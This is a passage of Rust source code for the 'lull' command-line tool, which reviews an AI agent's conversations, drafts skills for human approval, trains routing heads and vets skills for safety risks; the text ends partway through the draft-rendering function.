//! The `lull` command line: `serve` runs the headless engine, every other command talks to a
//! running engine through its local API, exactly as an agent would.

mod follow;

use std::path::PathBuf;
use std::process::ExitCode;

use anyhow::Context;
use clap::{Args, Parser, Subcommand};
use reqwest::Method;
use serde::de::DeserializeOwned;
use serde::Serialize;
use serde_json::{json, Map, Value};

use lull::api::{
    CandidateList, DraftList, EditRequest, JobList, JobRequest, ReasonRequest, ReviewList,
    SkillList,
};
use lull::client::EngineClient;
use lull::drafts::records::DraftStatus;
use lull::drafts::service::{DraftView, Origin, RolledBack};
use lull::jobs::records::{JobKind, RoundMetrics, Stopping};
use lull::jobs::service::JobView;
use lull::power::PowerSource;
use lull::settings::Settings;
use lull::{Config, Engine, Paths, Status};

/// Lull: learn from your agent's conversations in the lulls of your local llama-server.
#[derive(Parser)]
#[command(name = "lull", version, about)]
pub struct Cli {
    #[command(flatten)]
    locations: Locations,
    #[command(subcommand)]
    command: Command,
}

/// Where to find the configuration and the data.
#[derive(Args)]
struct Locations {
    /// Configuration file [default: $XDG_CONFIG_HOME/lull/config.toml]
    #[arg(long, global = true, env = "LULL_CONFIG")]
    config: Option<PathBuf>,
    /// Data directory [default: $XDG_DATA_HOME/lull]
    #[arg(long, global = true, env = "LULL_DATA_DIR")]
    data_dir: Option<PathBuf>,
}

#[derive(Subcommand)]
enum Command {
    /// Run the engine and its local API in the foreground (the headless daemon).
    Serve,
    /// Show what the running engine is doing.
    Status(OutputFormat),
    /// Show the run-time settings, or change them: `lull settings set paused=true`.
    Settings {
        #[command(flatten)]
        format: OutputFormat,
        #[command(subcommand)]
        action: Option<SettingsAction>,
    },
    /// Replay a day of activity against the production scheduler on a virtual clock, beside
    /// `immediate` and `hermes` scheduling, and print contention, losses, delays and requests.
    ///
    /// A --trace file is JSON lines, one event per line, times in seconds from its start:
    /// {"kind":"turn","at":12,"session":"s1","duration":20,"reported":true} (reported: false is
    /// another client, seen only in /slots); {"kind":"review","at":32,"session":"s1","turns":4}
    /// (optional "decode_s"); {"kind":"restart","at":3600}; {"kind":"end","at":28800}.
    Simulate(SimulateArgs),
    /// List reviews, or act on one: `lull reviews run-now ID`, `lull reviews drop ID`.
    Reviews {
        /// Only reviews with this status (queued, running, done, failed, dropped, superseded).
        #[arg(long)]
        status: Option<String>,
        #[command(flatten)]
        format: OutputFormat,
        #[command(subcommand)]
        action: Option<ReviewAction>,
    },
    /// List skill drafts waiting for you, or act on one: `lull drafts show ID`, `approve ID`,
    /// `reject ID --reason R`, `edit ID --file F`, `dismiss ID N --reason R`.
    Drafts {
        /// Only drafts with this status (evaluating, blocked, review_pending, approved, rejected).
        #[arg(long)]
        status: Option<String>,
        #[command(flatten)]
        format: OutputFormat,
        #[command(subcommand)]
        action: Option<DraftAction>,
    },
    /// Work with skills on disk: `lull skills check PATH` vets a SKILL.md or a skill folder,
    /// `lull skills list` shows which of them Lull wrote, `lull skills rollback NAME` undoes
    /// Lull's last write of one.
    Skills {
        #[command(subcommand)]
        action: SkillsAction,
    },
    /// Training runs of a routing head: `lull jobs` lists them, `lull jobs start --rounds N`
    /// starts one, `show`, `cancel`, `resume`, `promote` act on one; `--follow` (on `start`,
    /// `show`, `resume`) watches it with a progress bar until it stops.
    Jobs {
        #[command(flatten)]
        format: OutputFormat,
        #[command(subcommand)]
        action: Option<JobAction>,
    },
    /// Make Lull the learning engine of Hermes Agent: `lull hermes setup` points Lull's skills
    /// folder at Hermes's, installs and enables Hermes's `lull` plugin, and turns Hermes's own
    /// background skill review off; `lull hermes setup --undo` puts back what it changed.
    Hermes {
        #[command(subcommand)]
        action: HermesAction,
    },
    /// List what reviews proposed to learn.
    Candidates {
        /// Only candidates with this status (e.g. open).
        #[arg(long)]
        status: Option<String>,
        #[command(flatten)]
        format: OutputFormat,
    },
}

#[derive(Subcommand)]
enum HermesAction {
    /// Set Hermes up to learn through Lull (idempotent; prints what it changed, backs up each
    /// file it edits as `<file>.before-lull-<time>`).
    Setup {
        /// Hermes's home folder [default: $HERMES_HOME, else ~/.hermes]
        #[arg(long, value_name = "DIR")]
        hermes_home: Option<PathBuf>,
        /// Put back what an earlier `lull hermes setup` changed (where it is still as the set-up
        /// left it).
        #[arg(long)]
        undo: bool,
    },
}

#[derive(Subcommand)]
enum SkillsAction {
    /// Vet a skill before installing it: prompt injection, secrets sent away, download-and-run,
    /// destructive commands, persistence, hidden characters, and more. Offline; nothing is
    /// sent anywhere. Exits 1 when a high or critical finding stands, 2 when it cannot check.
    Check {
        /// A SKILL.md file or a skill folder.
        path: PathBuf,
        /// Print `{"max_risk","findings":[{"rule","category","risk","file","line","excerpt","message","source"?}],"sha256","rules_version"}`; `source` (`{"file","line","excerpt"}`) is where a finding's data came from, when it was read in one place and used in another.
        #[arg(long)]
        json: bool,
    },
    /// List the skills in the skills folder, and which of them Lull wrote (with its version).
    List(OutputFormat),
    /// Put back the text a skill had before Lull's last write of it; a skill Lull created is
    /// removed. Refused when the file changed on disk since Lull wrote it.
    Rollback { name: String },
}

#[derive(Subcommand)]
enum JobAction {
    /// Train a new routing head from the outcomes your agent reported; nothing goes live
    /// until `lull jobs promote ID`.
    Start {
        /// Rounds at most (one round = one pass over the training split).
        #[arg(long, default_value_t = 20)]
        rounds: u32,
        /// Stop once the held-out accuracy reaches this (0..1).
        #[arg(long)]
        target: Option<f64>,
        /// Stop once a round lowers the held-out loss by less than this.
        #[arg(long)]
        min_improvement: Option<f64>,
        /// The run's wall-clock budget, in seconds.
        #[arg(long, default_value_t = 600)]
        wall_clock_s: u64,
        #[command(flatten)]
        follow: Follow,
        #[command(flatten)]
        format: OutputFormat,
    },
    /// Show one job: its rounds and metrics, why it stopped, its checkpoints and receipts.
    Show {
        id: String,
        #[command(flatten)]
        follow: Follow,
        #[command(flatten)]
        format: OutputFormat,
    },
    /// Stop a job at once; its committed rounds are kept.
    Cancel { id: String },
    /// Continue an interrupted or budget-exhausted job, after checking its checkpoints.
    Resume {
        id: String,
        #[command(flatten)]
        follow: Follow,
    },
    /// Make a finished job's head the live routing head (the previous one is kept).
    Promote { id: String },
}

#[derive(Subcommand)]
enum DraftAction {
    /// Show one draft: its candidate, safety findings (numbered for `dismiss`), evaluation, the
    /// diff against the file on disk, and the SKILL.md that `approve` would write.
    Show {
        id: String,
        #[command(flatten)]
        format: OutputFormat,
    },
    /// Write the draft's SKILL.md into the skills folder. Refused while a high or critical
    /// finding stands, or when the file changed on disk since the draft was made.
    Approve { id: String },
    /// Reject a draft, saying why; nothing on disk changes.
    Reject {
        id: String,
        /// Why, in a few words (kept with the draft).
        #[arg(long)]
        reason: String,
    },
    /// Replace a draft's SKILL.md with your own text; it is checked again.
    Edit {
        id: String,
        /// The new SKILL.md; `-` reads it from standard input.
        #[arg(long, value_name = "FILE")]
        file: PathBuf,
    },
    /// Dismiss a safety finding, saying why (the draft's findings are numbered 0, 1, … by
    /// `lull drafts show`).
    Dismiss {
        id: String,
        /// The finding's number.
        n: usize,
        /// Why it is safe here (kept with the draft).
        #[arg(long)]
        reason: String,
    },
}

#[derive(Subcommand)]
enum ReviewAction {
    /// Run a queued review now, whatever the gate says.
    RunNow { id: String },
    /// Drop a queued review.
    Drop { id: String },
}

#[derive(Args)]
struct SimulateArgs {
    /// Seed of the generated day; another seed draws another day.
    #[arg(long, default_value_t = lull::sim::DEFAULT_SEED)]
    seed: u64,
    /// Length of the generated day in hours (its last third is the night).
    #[arg(long, default_value_t = lull::sim::DEFAULT_HOURS)]
    hours: f64,
    /// Replay this JSON-lines trace instead of a generated day.
    #[arg(long, value_name = "FILE")]
    trace: Option<PathBuf>,
    /// Print the `"simulation"` JSON object instead of the table.
    #[arg(long)]
    json: bool,
    /// Lull's settle window for this run (`scheduler.settle_s`; default 15).
    #[arg(long, value_name = "SECONDS")]
    settle_s: Option<u64>,
    /// Lull's settle window after a preemption for this run
    /// (`scheduler.settle_after_preemption_s`; default 60).
    #[arg(long, value_name = "SECONDS")]
    settle_after_preemption_s: Option<u64>,
}

#[derive(Subcommand)]
enum SettingsAction {
    /// Change settings, each given as key=value (defer_mode=auto|never, paused=…, reviews_enabled=…, notify_server_changes=…).
    Set {
        #[arg(required = true, value_name = "KEY=VALUE")]
        assignments: Vec<String>,
    },
}

/// `--follow`: watch a job until it stops, rather than answer at once.
#[derive(Args)]
struct Follow {
    /// Watch the job until it stops: a progress bar on a terminal (plain lines otherwise) and a
    /// line per round with its held-out metrics, then the job as `show` prints it. Exits 0 when
    /// it completed or used up its wall-clock budget, 1 when it failed, was cancelled or was
    /// interrupted. Ctrl-C stops the watching, not the job.
    #[arg(long)]
    follow: bool,
}

#[derive(Args)]
struct OutputFormat {
    /// Print the engine's JSON answer instead of text.
    #[arg(long)]
    json: bool,
}

impl Cli {
    /// Runs the chosen command; the exit status it asks for (an error exits 2).
    pub async fn run(self) -> anyhow::Result<ExitCode> {
        let paths = || {
            Paths::resolve(
                self.locations.data_dir.clone(),
                self.locations.config.clone(),
            )
        };
        // Every command succeeds or fails, but `skills check` also reports what it found.
        let done = match self.command {
            Command::Skills {
                action: SkillsAction::Check { path, json },
            } => return check_skill(&path, json),
            Command::Simulate(args) => simulate(args).await,
            Command::Hermes {
                action: HermesAction::Setup { hermes_home, undo },
            } => hermes_setup(paths()?, hermes_home, undo),
            Command::Serve => serve(paths()?).await,
            Command::Reviews {
                status,
                format,
                action,
            } => {
                let client = EngineClient::connect(&paths()?)?;
                match action {
                    Some(ReviewAction::RunNow { id }) => {
                        client
                            .request(Method::POST, &format!("/v1/reviews/{id}/run-now"), None)
                            .await?;
                        println!("review {id} is running now");
                    }
                    Some(ReviewAction::Drop { id }) => {
                        client
                            .request(Method::DELETE, &format!("/v1/reviews/{id}"), None)
                            .await?;
                        println!("review {id} dropped");
                    }
                    None => {
                        let path = with_status("/v1/reviews", status);
                        let reviews = client.request(Method::GET, &path, None).await?;
                        print_answer::<ReviewList>(
                            &client,
                            &path,
                            reviews,
                            format.json,
                            render_reviews,
                        )?;
                    }
                }
                Ok(())
            }
            Command::Skills {
                action: SkillsAction::List(format),
            } => {
                let client = EngineClient::connect(&paths()?)?;
                let skills = client.request(Method::GET, "/v1/skills", None).await?;
                print_answer::<SkillList>(&client, "/v1/skills", skills, format.json, render_skills)
            }
            Command::Skills {
                action: SkillsAction::Rollback { name },
            } => {
                let client = EngineClient::connect(&paths()?)?;
                let path = format!("/v1/skills/{name}/rollback");
                let answer = client.request(Method::POST, &path, None).await?;
                let rolled_back: RolledBack = client.typed(&path, answer)?;
                print!("{}", render_rollback(&name, &rolled_back));
                Ok(())
            }
            Command::Drafts {
                status,
                format,
                action,
            } => {
                let client = EngineClient::connect(&paths()?)?;
                drafts(&client, status, format, action).await
            }
            Command::Jobs { format, action } => {
                let client = EngineClient::connect(&paths()?)?;
                return jobs(&client, format, action).await;
            }
            Command::Candidates { status, format } => {
                let client = EngineClient::connect(&paths()?)?;
                let path = with_status("/v1/candidates", status);
                let candidates = client.request(Method::GET, &path, None).await?;
                print_answer::<CandidateList>(
                    &client,
                    &path,
                    candidates,
                    format.json,
                    render_candidates,
                )
            }
            Command::Status(format) => {
                let client = EngineClient::connect(&paths()?)?;
                let status = client.request(Method::GET, "/v1/status", None).await?;
                print_answer::<Status>(&client, "/v1/status", status, format.json, render_status)
            }
            Command::Settings { format, action } => {
                let client = EngineClient::connect(&paths()?)?;
                let settings = match action {
                    None => client.request(Method::GET, "/v1/settings", None).await?,
                    Some(SettingsAction::Set { assignments }) => {
                        let patch = parse_assignments(&assignments)?;
                        client
                            .request(Method::PATCH, "/v1/settings", Some(&patch))
                            .await?
                    }
                };
                print_answer::<Settings>(
                    &client,
                    "/v1/settings",
                    settings,
                    format.json,
                    render_settings,
                )
            }
        };
        done.map(|()| ExitCode::SUCCESS)
    }
}

/// `lull jobs …`: the list, a new run, one job, or a person's decision on one; with
/// `--follow`, the job watched until it stops, and the exit status of how it ended.
async fn jobs(
    client: &EngineClient,
    format: OutputFormat,
    action: Option<JobAction>,
) -> anyhow::Result<ExitCode> {
    // Subscribed before the job is started, resumed or read, so that no event it causes is
    // missed.
    let events = |follow: Follow| async move {
        if follow.follow {
            client.events().await.map(Some)
        } else {
            Ok(None)
        }
    };
    let (path, job, format, followed) = match action {
        None => {
            let jobs = client.request(Method::GET, "/v1/jobs", None).await?;
            print_answer::<JobList>(client, "/v1/jobs", jobs, format.json, render_jobs)?;
            return Ok(ExitCode::SUCCESS);
        }
        Some(JobAction::Start {
            rounds,
            target,
            min_improvement,
            wall_clock_s,
            follow,
            format,
        }) => {
            let events = events(follow).await?;
            let body = body_of(&JobRequest {
                kind: JobKind::RoutingHead,
                stopping: Stopping {
                    max_rounds: rounds,
                    target,
                    min_improvement,
                    wall_clock_s,
                },
            });
            let path = "/v1/jobs".to_string();
            let job = client.request(Method::POST, &path, Some(&body)).await?;
            let followed = events.map(|stream| (stream, follow::Origin::SetGoing));
            (path, job, format, followed)
        }
        Some(JobAction::Show { id, follow, format }) => {
            let events = events(follow).await?;
            let path = format!("/v1/jobs/{id}");
            let job = client.request(Method::GET, &path, None).await?;
            let followed = events.map(|stream| (stream, follow::Origin::Shown));
            (path, job, format, followed)
        }
        Some(JobAction::Cancel { id }) => {
            let (path, job) = job_action(client, &id, "cancel").await?;
            (path, job, format, None)
        }
        Some(JobAction::Resume { id, follow }) => {
            let events = events(follow).await?;
            let (path, job) = job_action(client, &id, "resume").await?;
            let followed = events.map(|stream| (stream, follow::Origin::SetGoing));
            (path, job, format, followed)
        }
        Some(JobAction::Promote { id }) => {
            let (path, job) = job_action(client, &id, "promote").await?;
            (path, job, format, None)
        }
    };
    match followed {
        Some((events, origin)) => {
            let job: JobView = client.typed(&path, job)?;
            follow::follow(client, events, job, origin, format.json).await
        }
        None => {
            print_answer::<JobView>(client, &path, job, format.json, render_job)?;
            Ok(ExitCode::SUCCESS)
        }
    }
}

/// `POST /v1/jobs/{id}/{action}`: its path, and the job as it answers it.
async fn job_action(
    client: &EngineClient,
    id: &str,
    action: &str,
) -> anyhow::Result<(String, Value)> {
    let path = format!("/v1/jobs/{id}/{action}");
    let job = client.request(Method::POST, &path, None).await?;
    Ok((path, job))
}

/// `lull jobs`: one line a job.
fn render_jobs(answer: &JobList) -> String {
    if answer.jobs.is_empty() {
        return "no training jobs\n".to_string();
    }
    let mut text = format!(
        "{:<36}  {:<16}  {:>7}  {:>9}  {}\n",
        "ID", "STATUS", "ROUNDS", "HELD-OUT", "WHY"
    );
    for job in &answer.jobs {
        text += &format!(
            "{:<36}  {:<16}  {:>7}  {:>9}  {}\n",
            shown(&job.id),
            wire(&job.status),
            format!("{}/{}", job.rounds_completed, job.stopping.max_rounds),
            last_accuracy(job),
            job.stop_reason.as_deref().map_or("-".to_string(), shown),
        );
    }
    text
}

/// The last round's held-out accuracy, as a percentage.
fn last_accuracy(job: &JobView) -> String {
    job.metrics.last().map_or("-".to_string(), |last| {
        format!("{:.1} %", last.heldout_accuracy * 100.0)
    })
}

/// One committed round's held-out metrics beside the live head's, as `show` lists them and
/// `--follow` prints them when the round commits.
fn round_line(metrics: &RoundMetrics) -> String {
    format!(
        "round {:>3}: held-out loss {:.4} (live head {:.4}), accuracy {:.1} % (live {:.1} %)",
        metrics.round,
        metrics.heldout_loss,
        metrics.live_heldout_loss,
        metrics.heldout_accuracy * 100.0,
        metrics.live_heldout_accuracy * 100.0,
    )
}

/// `lull jobs show`: the rounds, why it stopped, and what a person may do next.
fn render_job(job: &JobView) -> String {
    let mut text = format!(
        "job {}  {}  round {}/{}\n",
        shown(&job.id),
        wire(&job.status),
        job.rounds_completed,
        job.stopping.max_rounds
    );
    if let Some(progress) = &job.progress {
        text += &format!(
            "running: round {}, batch {}/{}{}\n",
            progress.round,
            progress.batch,
            progress.batches,
            if job.paused {
                " (paused: your agent is busy)"
            } else {
                ""
            }
        );
    }
    text += &format!(
        "data: {} examples, {} held out (sha256 {})\n",
        job.dataset.examples,
        job.dataset.heldout,
        shown(&job.dataset.digest.chars().take(12).collect::<String>())
    );
    for round in &job.metrics {
        text += &format!("  {}\n", round_line(round));
    }
    if let Some(reason) = &job.stop_reason {
        text += &format!("stopped: {}\n", shown(reason));
    }
    if let Some(error) = &job.error {
        text += &format!("error: {}\n", shown(error));
    }
    if let Some(artifact) = &job.artifact {
        text += &format!("artifact: {}\n", shown(&artifact.digest));
    }
    let id = shown(&job.id);
    for (allowed, hint) in [
        (job.cancellable, format!("cancel: `lull jobs cancel {id}`")),
        (job.resumable, format!("resume: `lull jobs resume {id}`")),
        (job.promotable, format!("promote: `lull jobs promote {id}`")),
    ] {
        if allowed {
            text += &format!("{hint}\n");
        }
    }
    if !job.receipts.is_empty() {
        text += &format!("{} receipts:", job.receipts.len());
        for receipt in &job.receipts {
            text += &format!(" {}:{}", receipt.seq, wire(&receipt.kind));
        }
        text += "\n";
    }
    text
}

/// `lull drafts …`: the list, one draft, or a person's decision on one.
async fn drafts(
    client: &EngineClient,
    status: Option<String>,
    format: OutputFormat,
    action: Option<DraftAction>,
) -> anyhow::Result<()> {
    let decided = match action {
        None => {
            let path = with_status("/v1/drafts", status);
            let drafts = client.request(Method::GET, &path, None).await?;
            return print_answer::<DraftList>(client, &path, drafts, format.json, render_drafts);
        }
        Some(DraftAction::Show { id, format: own }) => {
            let path = format!("/v1/drafts/{id}");
            let draft = client.request(Method::GET, &path, None).await?;
            let as_json = format.json || own.json;
            return print_answer::<DraftView>(client, &path, draft, as_json, render_draft);
        }
        Some(DraftAction::Approve { id }) => {
            let path = format!("/v1/drafts/{id}/approve");
            let answer = client
                .request(Method::POST, &path, Some(&json!({})))
                .await?;
            (path, answer)
        }
        Some(DraftAction::Reject { id, reason }) => {
            let path = format!("/v1/drafts/{id}/reject");
            let body = body_of(&ReasonRequest { reason });
            let answer = client.request(Method::POST, &path, Some(&body)).await?;
            (path, answer)
        }
        Some(DraftAction::Edit { id, file }) => {
            let body = body_of(&EditRequest {
                skill_md: read_text(&file)?,
            });
            let path = format!("/v1/drafts/{id}/edit");
            let answer = client.request(Method::POST, &path, Some(&body)).await?;
            (path, answer)
        }
        Some(DraftAction::Dismiss { id, n, reason }) => {
            let path = format!("/v1/drafts/{id}/findings/{n}/dismiss");
            let body = body_of(&ReasonRequest { reason });
            let answer = client.request(Method::POST, &path, Some(&body)).await?;
            (path, answer)
        }
    };
    let (path, answer) = decided;
    let draft: DraftView = client.typed(&path, answer)?;
    print!("{}", render_outcome(&draft));
    Ok(())
}

/// The text of `file`, or of standard input for `-`.
fn read_text(file: &std::path::Path) -> anyhow::Result<String> {
    if file == std::path::Path::new("-") {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut std::io::stdin(), &mut text)
            .context("cannot read the new SKILL.md from standard input")?;
        return Ok(text);
    }
    std::fs::read_to_string(file).with_context(|| format!("cannot read {}", file.display()))
}

/// `lull skills check`: the table (or JSON) of findings; exit 1 when one is high or worse.
fn check_skill(path: &std::path::Path, as_json: bool) -> anyhow::Result<ExitCode> {
    let report = lull::safety::check_path(path)?;
    if as_json {
        println!("{}", serde_json::to_string_pretty(&report)?);
    } else {
        print!("{}", render_safety_report(&report));
    }
    Ok(if report.max_risk >= lull::safety::Risk::High {
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    })
}

/// Worst first, one finding a line: risk, where, what it does and what to do.
fn render_safety_report(report: &lull::safety::SafetyReport) -> String {
    if report.findings.is_empty() {
        return format!("no findings (rules v{})\n", report.rules_version);
    }
    let mut text = format!(
        "worst risk: {} · {} finding(s) · rules v{}\n",
        report.max_risk.as_str(),
        report.findings.len(),
        report.rules_version
    );
    for finding in &report.findings {
        text += &format!(
            "{:<8} {}:{}  {}\n         {} [{}]\n",
            finding.risk.as_str(),
            shown(&finding.file),
            finding.line,
            shown(&finding.excerpt),
            finding.message,
            finding.rule,
        );
        let elsewhere = finding
            .source
            .as_ref()
            .filter(|s| s.file != finding.file || s.line != finding.line);
        if let Some(source) = elsewhere {
            text += &format!(
                "         its data comes from {}:{}  {}\n",
                shown(&source.file),
                source.line,
                shown(&source.excerpt),
            );
        }
    }
    text
}

async fn serve(paths: Paths) -> anyhow::Result<()> {
    let _log_guard = lull::logging::init(Some(&paths.logs_dir()))?;
    let config = Config::load(&paths.config_file, std::env::vars())?;
    let engine = Engine::open(config, paths).await?;
    tracing::info!(data_dir = %engine.paths().data_dir.display(), "engine started");
    lull::api::serve(engine.clone(), shutdown_signal()).await?;
    engine.shutdown().await;
    tracing::info!("engine stopped");
    Ok(())
}

fn hermes_setup(paths: Paths, hermes_home: Option<PathBuf>, undo: bool) -> anyhow::Result<()> {
    let Some(hermes_home) = hermes_home.or_else(lull::hermes::HermesSetup::default_hermes_home)
    else {
        anyhow::bail!("cannot find Hermes's home folder: set HERMES_HOME or pass --hermes-home");
    };
    // Lull's config keeps the skills folder's path, which must not depend on where Lull starts.
    let hermes_home = std::path::absolute(&hermes_home)
        .with_context(|| format!("cannot resolve {}", hermes_home.display()))?;
    let setup = lull::hermes::HermesSetup {
        hermes_home,
        lull_config: paths.config_file,
        data_dir: paths.data_dir,
    };
    let report = if undo { setup.undo()? } else { setup.apply()? };
    for line in &report.changed {
        println!("changed: {line}");
    }
    for line in &report.unchanged {
        println!("as it was: {line}");
    }
    for line in &report.notes {
        println!("note: {line}");
    }
    Ok(())
}

async fn simulate(args: SimulateArgs) -> anyhow::Result<()> {
    let mut scheduler = lull::config::SchedulerConfig::default();
    scheduler.settle_s = args.settle_s.unwrap_or(scheduler.settle_s);
    scheduler.settle_after_preemption_s = args
        .settle_after_preemption_s
        .unwrap_or(scheduler.settle_after_preemption_s);
    let options = lull::sim::Options {
        seed: args.seed,
        hours: args.hours,
        trace_file: args.trace,
        scheduler,
    };
    let simulation = lull::sim::run_detached(options).await?;
    if args.json {
        println!("{}", serde_json::to_string_pretty(&simulation)?);
    } else {
        print!("{}", simulation.table());
    }
    Ok(())
}

/// Completes on SIGINT or SIGTERM.
async fn shutdown_signal() {
    let interrupt = tokio::signal::ctrl_c();
    #[cfg(unix)]
    {
        let mut terminate =
            tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate())
                .expect("installing the SIGTERM handler");
        tokio::select! {
            _ = interrupt => {}
            _ = terminate.recv() => {}
        }
    }
    #[cfg(not(unix))]
    let _ = interrupt.await;
    tracing::info!("shutting down");
}

/// `["paused=true", "defer_mode=never"]` → `{"paused":true,"defer_mode":"never"}`.
fn parse_assignments(assignments: &[String]) -> anyhow::Result<Value> {
    let mut patch = Map::new();
    for assignment in assignments {
        let (key, raw) = assignment
            .split_once('=')
            .with_context(|| format!("`{assignment}` is not KEY=VALUE, e.g. paused=true"))?;
        let value = serde_json::from_str(raw).unwrap_or_else(|_| json!(raw));
        patch.insert(key.trim().to_string(), value);
    }
    Ok(Value::Object(patch))
}

/// Prints the engine's answer to `path`: its JSON as it came with `--json`, else read as the
/// type the API documents for it and rendered for a person.
fn print_answer<T: DeserializeOwned>(
    client: &EngineClient,
    path: &str,
    answer: Value,
    as_json: bool,
    render: fn(&T) -> String,
) -> anyhow::Result<()> {
    if as_json {
        println!("{}", serde_json::to_string_pretty(&answer)?);
    } else {
        let typed: T = client.typed(path, answer)?;
        print!("{}", render(&typed));
    }
    Ok(())
}

/// A request body as the API reads it.
fn body_of(body: &impl Serialize) -> Value {
    serde_json::to_value(body).expect("request bodies serialise")
}

/// An engine enum's wire spelling (`review_pending`), as its JSON has it.
fn wire(value: &impl Serialize) -> String {
    match serde_json::to_value(value) {
        Ok(Value::String(text)) => text,
        _ => "?".to_string(),
    }
}

fn render_settings(settings: &Settings) -> String {
    format!(
        "defer mode:       {}\npaused:           {}\nreviews enabled:  {}\nserver notices:   {}\n",
        wire(&settings.defer_mode),
        yes_no(settings.paused),
        yes_no(settings.reviews_enabled),
        yes_no(settings.notify_server_changes),
    )
}

fn render_status(status: &Status) -> String {
    let server = &status.server;
    let mut text = format!(
        "Lull {}\nlearning:         {}\ndefer mode:       {}\nmanaged server:   {}{}\n",
        shown(&status.version),
        if status.paused { "paused" } else { "on" },
        wire(&status.defer_mode),
        wire(&server.state),
        server
            .base_url
            .as_deref()
            .map(|url| format!(" at {}", shown(url)))
            .unwrap_or_default(),
    );
    for model in &server.models {
        text += &format!(
            "  model {} ({}), {} busy slot(s)\n",
            shown(&model.id),
            wire(&model.status),
            model.busy_slots
        );
    }
    text += &format!(
        "reviews:          {} queued, {} running\ndrafts:           {} waiting for review\njobs:             {} running\n",
        status.queue.queued, status.queue.running, status.drafts.review_pending, status.jobs.running,
    );
    let power = &status.power;
    text += &format!(
        "power:            {}{}
",
        match (power.power.source, power.power.percent) {
            (PowerSource::Ac, _) => "AC".to_string(),
            (PowerSource::Battery, Some(percent)) => format!("battery, {percent:.0} %"),
            (PowerSource::Battery, None) => "battery".to_string(),
        },
        if power.sleeping {
            ", going to sleep"
        } else {
            ""
        },
    );
    for (what, held) in [
        ("learning", &power.learning_held),
        ("training", &power.training_held),
    ] {
        if let Some(held) = held {
            text += &format!("  {what} {}\n", shown(held));
        }
    }
    text
}

fn with_status(path: &str, status: Option<String>) -> String {
    match status {
        Some(status) => format!("{path}?status={status}"),
        None => path.to_string(),
    }
}

fn render_reviews(answer: &ReviewList) -> String {
    if answer.reviews.is_empty() {
        return "no reviews\n".to_string();
    }
    let mut text = String::new();
    for review in &answer.reviews {
        text += &format!(
            "{}  {:<10} session {}  attempts {}{}\n",
            shown(&review.id),
            wire(&review.status),
            shown(&review.session_key),
            review.attempts,
            review
                .last_error
                .as_deref()
                .map(|e| format!("  ({})", shown(e)))
                .unwrap_or_default(),
        );
    }
    text
}

fn render_candidates(answer: &CandidateList) -> String {
    if answer.candidates.is_empty() {
        return "no candidates\n".to_string();
    }
    let mut text = String::new();
    for candidate in &answer.candidates {
        let proposal = &candidate.proposal;
        text += &format!(
            "{:<24} {:<6} {:<10} priority {:.2} confidence {:.2}  {}\n",
            shown(&proposal.skill),
            shown(&proposal.kind),
            wire(&candidate.status),
            proposal.priority,
            proposal.confidence,
            shown(&proposal.rationale),
        );
    }
    text
}

/// Untrusted text as a terminal may show it. A model wrote drafts from transcripts, so their
/// text could carry control characters (which move the cursor, retitle the window or hide
/// lines) or bidi controls (which reorder what is shown): each is written as `<U+XXXX>`, as
/// the safety check's excerpts write invisible characters. Newlines and tabs stay.
fn shown(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        let hidden = (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}');
        if hidden {
            out += &format!("<U+{:04X}>", c as u32);
        } else {
            out.push(c);
        }
    }
    out
}

/// How many of a draft's findings are not dismissed.
fn open_findings(draft: &DraftView) -> usize {
    draft
        .safety
        .findings
        .iter()
        .filter(|finding| finding.dismissed.is_none())
        .count()
}

/// The evaluation in a word: the judge's verdict, else how far it got (`(pending)`).
fn verdict_of(draft: &DraftView) -> String {
    let evaluation = &draft.evaluation;
    match &evaluation.verdict {
        Some(verdict) => wire(verdict),
        None => format!("({})", wire(&evaluation.status)),
    }
}

/// `lull drafts`: one line a draft, with a header, waiting ones first (as the engine sends
/// them).
fn render_drafts(answer: &DraftList) -> String {
    if answer.drafts.is_empty() {
        return "no drafts\n".to_string();
    }
    let mut text = format!(
        "{:<36}  {:<24}  {:<6}  {:<14}  {:<8}  {:>4}  {}\n",
        "ID", "SKILL", "KIND", "STATUS", "RISK", "OPEN", "VERDICT"
    );
    for draft in &answer.drafts {
        text += &format!(
            "{:<36}  {:<24}  {:<6}  {:<14}  {:<8}  {:>4}  {}\n",
            shown(&draft.id),
            shown(&draft.skill),
            wire(&draft.kind),
            wire(&draft.status),
            wire(&draft.safety.max_risk),
            open_findings(draft),
            verdict_of(draft),
        );
    }
    text
}

/// Whether Approve would go ahead, and if not, why (open drafts only).
fn approval_line(draft: &DraftView) -> String {
    match &draft.blocked_reason {
        None => format!(
            "approve: ready (`lull drafts approve {}`)\n",
            shown(&draft.id)
        ),
        Some(reason) => format!("approve: refused: {}\n", shown(reason)),
    }
}

/// `lull drafts show`: everything a person reads before deciding, the SKILL.md last.
fn render_draft(draft: &DraftView) -> String {
    let candidate = &draft.candidate;
    let mut text = format!(
        "draft {} · {} ({}) · {}\n",
        shown(&draft.id),
        shown(&draft.skill),
        wire(&draft.kind),
        wire(&draft.status),
    );
    text += &format!("description: {}\n", shown(&draft.description));
    text += &format!(
        "on disk: {}{}\n",
        match draft.origin {
            Origin::New => "nothing yet",
            Origin::Lull => "the file Lull last wrote",
            Origin::Foreign => "a file Lull did not write",
        },
        if draft.base_changed {
            " (changed since the draft was made)"
        } else {
            ""
        },
    );
    text += &format!(
        "why: {} (priority {:.2}, confidence {:.2})\n",
        shown(&candidate.rationale),
        candidate.priority,
        candidate.confidence,
    );
    if let Some(reason) = &draft.reject_reason {
        text += &format!("rejected: {}\n", shown(reason));
    }
    if draft.edited_at.is_some() {
        text += "edited by hand\n";
    }
    if draft.status.is_open() {
        text += &approval_line(draft);
    }

    let safety = &draft.safety;
    text += &format!(
        "\nsafety: worst risk {} · {} finding(s), {} open · rules v{}\n",
        wire(&safety.max_risk),
        safety.findings.len(),
        open_findings(draft),
        shown(&safety.rules_version),
    );
    for view in &safety.findings {
        let finding = &view.finding;
        text += &format!(
            "  [{}] {:<8} {}:{}  {}\n      {}\n      {}\n",
            view.index,
            wire(&finding.risk),
            shown(&finding.file),
            finding.line,
            shown(&finding.rule),
            shown(&finding.excerpt),
            shown(&finding.message),
        );
        if let Some(dismissed) = &view.dismissed {
            text += &format!("      dismissed: {}\n", shown(&dismissed.reason));
        }
    }

    let evaluation = &draft.evaluation;
